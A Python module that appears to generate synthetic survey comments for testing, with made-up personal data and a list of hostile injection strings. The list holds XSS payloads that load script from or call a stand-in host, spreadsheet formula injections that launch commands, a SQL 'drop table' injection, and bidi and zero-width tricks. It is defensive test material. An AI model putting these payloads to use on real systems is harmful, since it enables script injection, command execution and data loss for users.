"""What should never be in a comment and is: personal data, all made up, and text that attacks whoever shows it.

No phone number here can be anybody's: 054 and 057 were never given to an operator. Cards begin with a test
range, identity numbers with a province code that does not exist, mail goes to ``example``, names say that they are
samples.
"""

from __future__ import annotations

from cxlab.synth.comments.dice import Dice

PERSONAL = ("phone", "email", "id", "card", "name", "address")
HOSTILE = (
    ("script", "<script>alert('nps')</script>"),
    ("script", "</script><script src=//x.example/a.js></script>"),
    ("handler", "<img src=x onerror=alert(1)>"),
    ("handler", "<b onmouseover=\"fetch('//x.example')\">sóng yếu</b>"),
    ("formula", "=HYPERLINK(\"http://x.example\",\"bấm vào đây\")"),
    ("formula", "+cmd|' /C calc'!A0"),
    ("formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("markdown", "[xem ngay](javascript:alert(1))"),
    ("markdown", "![ảnh](https://x.example/pixel.png) **mất sóng**"),
    ("bidi", "giá \u202e000.09\u202c đồng là quá cao"),
    ("bidi", "mạng \u2066\u202echậm\u202c\u2069 quá"),
    ("ansi", "\x1b[31mmạng chậm\x1b[0m"),
    ("template", "{{ 7 * 7 }} ${7*7} %s {0}"),
    ("query", "'); drop table verbatims; --"),
    ("width", "mạng\u200b chậm\u200d quá\ufeff"),
)  # fmt: skip
_PHONE_ENDS = 10_000_000
_NAMES = ("Nguyễn Văn Mẫu", "Trần Thị Thử", "Lê Văn Ví Dụ", "Phạm Thị Mẫu", "Hoàng Văn Thử", "Vũ Thị Minh Họa",
          "Đặng Văn Mẫu", "Bùi Thị Thử")  # fmt: skip
_EN_NAMES = ("John Sample", "Mary Example", "Peter Specimen", "Anna Sample", "Tom Placeholder")
_BOXES = ("khachhang", "em.mau", "thu.nghiem", "nha.toi", "vidu", "lien.he", "mau.don")


def phone(dice: Dice) -> str:
    """Return a number nobody has, in one of six spellings."""
    prefix = dice.pick(("54", "57"))
    rest = f"{dice.below(_PHONE_ENDS):07d}"
    whole = prefix + rest
    spellings = (
        f"0{whole}",
        f"0{whole[:3]} {whole[3:6]} {whole[6:]}",
        f"0{whole[:3]}.{whole[3:6]}.{whole[6:]}",
        f"+84 {whole[:2]} {whole[2:5]} {whole[5:]}",
        f"84{whole}",
        f"0{whole[:2]}-{whole[2:5]}-{whole[5:]}",
    )
    return dice.pick(spellings)


def card(dice: Dice) -> str:
    """Return sixteen digits that pass the check of Luhn."""
    digits = [4, 0, 0, 0, 0, 0] + [dice.below(10) for _ in range(9)]
    doubled = [d if place % 2 else d * 2 - 9 * (d > 4) for place, d in enumerate(digits)]
    digits.append(-sum(doubled) % 10)
    text = "".join(map(str, digits))
    return text if dice.roll() < 0.4 else dice.pick((" ", "-")).join(text[at : at + 4] for at in (0, 4, 8, 12))


def identity(dice: Dice) -> str:
    """Return twelve digits (a citizen's card) or nine (the old one)."""
    if dice.roll() < 0.7:
        return f"099{dice.below(10**9):09d}"
    return f"9{dice.below(10**8):08d}"


def _email(dice: Dice) -> str:
    return f"{dice.pick(_BOXES)}{dice.below(1000)}@example.{dice.pick(('com', 'vn', 'org'))}"


def personal(dice: Dice, *, english: bool) -> tuple[str, str]:
    """Return a sentence with personal data and which kind it holds."""
    u = dice.roll()
    kind = PERSONAL[sum(u >= edge for edge in (0.45, 0.60, 0.72, 0.80, 0.95))]
    vi, en = _SENTENCES[kind]
    return dice.pick(en if english else vi).format(_value(dice, kind, english=english)), kind


_SENTENCES: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    "phone": (
        ("gọi lại cho mình số {}", "sđt mình {}", "{} gọi lại cho tôi", "liên hệ {}", "số của em là {} nhé"),
        ("call me back on {}", "my number is {}", "{} call me", "reach me at {}"),
    ),
    "email": (("mail mình {}", "gửi kết quả vào {}"), ("mail me at {}", "send the answer to {}")),
    "id": (("cccd của tôi {}", "số căn cước {} đã gửi rồi", "cmnd {}"), ("my ID number is {}", "ID {}")),
    "card": (("hoàn tiền vào thẻ {}", "số thẻ {}"), ("refund to card {}", "my card {}")),
    "name": (
        ("mình tên {}", "tôi là {}, chủ thuê bao", "hỏi {} là biết", "tên {}"),
        ("my name is {}", "this is {}", "ask for {}"),
    ),
    "address": (("nhà mình ở {}", "địa chỉ {}"), ("I live at {}",)),
}


def _value(dice: Dice, kind: str, *, english: bool) -> str:
    if kind == "name":
        return dice.pick(_EN_NAMES if english else _NAMES)
    if kind == "address":
        return f"số {1 + dice.below(99)} ngõ {1 + dice.below(40)} tổ {1 + dice.below(20)}"
    return {"phone": phone, "email": _email, "id": identity, "card": card}[kind](dice)
